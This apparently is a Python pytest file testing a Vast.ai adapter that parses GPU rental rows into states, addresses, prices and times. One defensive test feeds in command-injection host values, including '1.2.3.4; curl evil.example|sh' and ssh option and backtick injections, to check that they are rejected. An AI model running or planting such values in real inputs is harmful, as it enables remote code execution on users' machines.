"""Rows: states, addresses, times and values as odd as they come."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest

from bot.adapters.vast import marks, values, wire
from bot.domain.money import Usd
from bot.domain.rentals import Address, Instance, Status
from tests.adapters.vast.rows import instance_row, offer_row
from tests.adapters.vast.town import NOW

STATES = [
    (None, "running", "running", Status.CREATED),
    ("created", "running", "running", Status.STARTING),
    ("loading", "running", "stopped", Status.STARTING),
    ("rebooting", "running", "running", Status.STARTING),
    ("running", "running", "running", Status.UP),
    ("running", "stopped", "running", Status.STOPPING),
    ("running", "stopped", "stopped", Status.STOPPING),
    ("exited", "running", "stopped", Status.SCHEDULING),
    ("stopped", "running", "stopped", Status.SCHEDULING),
    ("exited", "running", "running", Status.RESTARTING),
    ("exited", "stopped", "stopped", Status.STOPPED),
    ("stopped", "stopped", "stopped", Status.STOPPED),
    ("exited", "stopped", "running", Status.STOPPING),
    ("loading", "stopped", "stopped", Status.FAILED),
    (None, "stopped", "stopped", Status.FAILED),
    ("created", "stopped", "stopped", Status.FAILED),
    ("loading", "stopped", "running", Status.STOPPING),
    ("rebooting", "stopped", "stopped", Status.STOPPING),
    ("frozen", "running", "running", Status.FAILED),
    ("unknown", "running", "running", Status.LOST),
    ("offline", "stopped", "stopped", Status.LOST),
    ("hibernating", "running", "running", Status.UNCLEAR),
    ("running", "dreaming", "running", Status.UNCLEAR),
    ("exited", "running", "dreaming", Status.UNCLEAR),
    (7, ["odd"], {}, Status.UNCLEAR),
]


@pytest.mark.parametrize(("actual", "intended", "contract", "expected"), STATES)
def test_three_fields_make_a_state(
    actual: object, intended: object, contract: object, expected: Status
) -> None:
    """Reference vast-api, 5.3; anything else is unclear and nothing is concluded from it."""
    row = instance_row(
        actual_status=actual, intended_status=intended, cur_state=contract, status_msg=""
    )

    assert wire.status(row) is expected


def test_a_row_without_a_state_is_unclear() -> None:
    """Null is a state of Vast's; nothing at all is none."""
    row = instance_row()
    del row["actual_status"]

    seen = wire.instance(row, NOW)

    assert seen.status is Status.UNCLEAR
    assert seen.message.startswith("state absent/running/running")


@pytest.mark.parametrize(
    "said",
    [
        "Error response from daemon: manifest for x:latest not found",
        "OCI runtime create failed: runc",
        "Failed to pull image x",
        "write /var: no space left on device",
        "manifest unknown: x",
        "pull access denied, Unauthorized",
        "failed to register layer: unexpected EOF",
    ],
)
def test_a_final_word_while_starting_is_a_failed_start(said: str) -> None:
    """The texts that Vast's own client takes as final."""
    starting = instance_row(actual_status="loading", status_msg=said)

    assert wire.status(starting) is Status.FAILED
    assert wire.status(instance_row(status_msg=said)) is Status.UP  # stale text


def test_a_pull_in_progress_is_no_failure() -> None:
    """Docker's layer lines."""
    row = instance_row(actual_status="loading", status_msg="f1555660aa88: Pulling fs layer\n")

    seen = wire.instance(row, NOW)

    assert (seen.status, seen.message) == (Status.STARTING, "f1555660aa88: Pulling fs layer")


def test_an_instance_is_read_whole() -> None:
    """The facts of the sample row, the address without its newline."""
    seen = wire.instance(_as_sent(instance_row()), NOW)

    assert seen.contract == 12345678
    assert seen.label == "bellhop/bc2d3f"
    assert seen.machine_id == 178
    assert seen.created_at == datetime(2025, 11, 22, 8, 26, 40, 500_000, tzinfo=UTC)
    assert seen.running_since == NOW - timedelta(minutes=12, seconds=30)
    assert seen.addresses == (Address("63.135.50.11", 29283), Address("ssh7.vast.ai", 37044))
    assert seen.rates is not None
    assert seen.rates.per_hour(10) == Usd(303_940)
    assert (seen.rates.upload_per_gb, seen.rates.download_per_gb) == (Usd(20_000), Usd(10_000))
    assert (seen.disk_gb, seen.gpu_name, seen.gpu_util) == (10, "RTX A5000", Decimal(37))
    assert seen.vram_used_mb is None


def test_an_instance_of_strings_is_the_same() -> None:
    """Numbers as text, as some of Vast's answers have them."""
    row = instance_row()
    as_text = {k: str(v) if isinstance(v, int | float) else v for k, v in row.items()}

    assert wire.instance(as_text, NOW) == wire.instance(_as_sent(row), NOW)


def test_an_instance_of_nulls_is_still_ours() -> None:
    """With its id and label a row counts; what is missing is missing."""
    row = dict.fromkeys(instance_row()) | {"id": 7, "label": "bellhop/x"}

    seen = wire.instance(row, NOW)

    assert (seen.contract, seen.label, seen.status) == (7, "bellhop/x", Status.CREATED)
    assert (seen.addresses, seen.rates, seen.created_at, seen.running_since) == (
        (),
        None,
        None,
        None,
    )
    assert (seen.message, seen.gpu_name, seen.gpu_util, seen.disk_gb) == ("", "", None, 0)


def test_a_row_without_a_label_has_an_empty_one() -> None:
    """It is somebody else's; only ours carry one."""
    assert wire.instance(instance_row(label=None), NOW).label == ""


@pytest.mark.parametrize(
    "ports",
    [None, {}, [22], {"22/tcp": None}, {"22/tcp": []}, {"22/tcp": [{"HostPort": "x"}, 7]}, "odd"],
)
def test_without_a_mapped_port_only_the_proxy_is_left(ports: object) -> None:
    """Ports come late, and in odd shapes."""
    assert wire.instance(instance_row(ports=ports), NOW).addresses == (
        Address("ssh7.vast.ai", 37044),
    )


@pytest.mark.parametrize("host", ["1.2.3.4; curl evil.example|sh", "-oProxyCommand=id", "a`id`b"])
def test_what_is_no_host_is_no_address(host: str) -> None:
    """It would stand in the command line of /ssh, for people to paste into their shells."""
    row = instance_row(public_ipaddr=host, ssh_host=host)

    assert wire.instance(row, NOW).addresses == ()


def test_in_a_jupyter_launch_the_proxy_counts_one_up() -> None:
    """The first port is Jupyter's."""
    row = instance_row(ports=None, image_runtype="jupyter_direc ssh_direc ssh_proxy")

    assert wire.instance(row, NOW).addresses == (Address("ssh7.vast.ai", 37045),)


def test_a_machine_that_is_not_up_has_no_address() -> None:
    """The proxy's is there early and answers nobody."""
    assert wire.instance(instance_row(actual_status="loading"), NOW).addresses == ()


@pytest.mark.parametrize("value", [-1, "1e17", "NaN", True, None])
def test_an_odd_uptime_is_none(value: object) -> None:
    """It is null at times."""
    assert wire.instance(instance_row(uptime_mins=value), NOW).running_since is None


@pytest.mark.parametrize("value", [0, -5, 1, "29739480", "1e17", "soon", None, True, {}])
def test_an_odd_creation_time_is_none(value: object) -> None:
    """The house then goes by its own."""
    assert wire.instance(instance_row(start_date=value), NOW).created_at is None


def test_no_report_of_the_gpu_is_not_an_idle_gpu() -> None:
    """Zero percent at zero degrees is a report that is missing."""
    silent = instance_row(gpu_util=0, gpu_temp=0)
    idle = instance_row(gpu_util=0, gpu_temp=41)

    assert wire.instance(silent, NOW).gpu_util is None
    assert wire.instance(idle, NOW).gpu_util == 0


def test_a_long_message_is_cut() -> None:
    """It is shown on a card."""
    assert len(wire.instance(instance_row(status_msg="x" * 5000), NOW).message) == 300


def test_an_offer_without_an_end_ends_with_its_duration() -> None:
    """`duration` is in seconds from now."""
    row = _as_sent(offer_row(end_date=None, duration=3600.0))

    assert wire.offer(row, NOW).available_until == NOW + timedelta(hours=1)
    assert wire.offer(_as_sent(offer_row(end_date=None)), NOW).available_until is None


@pytest.mark.parametrize(
    "value", ["1e999999999", "-1e999999999", "1e-999999999", "9" * 40, "Infinity", "NaN", "", "x"]
)
def test_an_absurd_number_is_none(value: str) -> None:
    """Written out it would fill the memory."""
    assert values.number(value) is None
    assert values.integer(value) is None


@pytest.mark.parametrize(
    "raw", [b"NaN", b"[1, Infinity]", b"[" * 100_000, b"\xff", b"", b"1e99999999999999999999"]
)
def test_what_is_no_json_raises_one_error(raw: bytes) -> None:
    """Whatever is wrong with it."""
    with pytest.raises(ValueError):  # noqa: PT011 - any will do, as long as it is one
        values.parse(raw)


def _as_sent(row: dict[str, object]) -> dict[str, object]:
    """A row through the parser, so that its numbers are what they are in an answer."""
    return {k: Decimal(str(v)) if isinstance(v, float) else v for k, v in row.items()}


def shown(row: dict[str, object]) -> Instance:
    """An instance as it comes over the wire."""
    return wire.instance(values.parse(json.dumps(row).encode()), NOW)


def test_a_machine_that_never_ran_is_told_from_one_that_stands_still() -> None:
    """Only on the first can there be no work."""
    never = [instance_row(actual_status=one) for one in (None, "created", "loading")]
    ran = [instance_row(actual_status=one) for one in ("exited", "rebooting", "offline", "odd")]
    ran.append(instance_row(actual_status="loading", disk_usage=3.2))  # started once more
    absent = instance_row()
    del absent["actual_status"]

    assert all(shown(row).untouched for row in never)
    assert not any(shown(row).untouched for row in [*ran, absent, instance_row()])


def test_the_mark_of_a_bellhop_is_read_from_the_start_script() -> None:
    """As it was written there; anything else is no mark."""
    script = marks.write("touch ~/.no_auto_tmux", "0123456789abcdef")

    assert shown(instance_row(onstart=script)).mark == "0123456789abcdef"
    for other in (None, 7, "", "# bellhop short", "touch x"):
        assert shown(instance_row(onstart=other)).mark == ""


@pytest.mark.parametrize(
    ("changes", "odd"),
    [
        ({}, ()),
        ({"dph_base": "0.297", "disk_space": "10.08", "id": "12345678"}, ()),
        ({"dph_base": -0.2}, ("a negative price",)),
        ({"dph_base": None}, ("a price that is missing",)),
        ({"actual_status": "hibernating"}, ("an unknown state “hibernating”",)),
    ],
)
def test_what_cannot_be_read_is_said(changes: dict[str, object], odd: tuple[str, ...]) -> None:
    """In words for people; numbers as texts are numbers."""
    assert shown(instance_row(**changes)).odd == odd
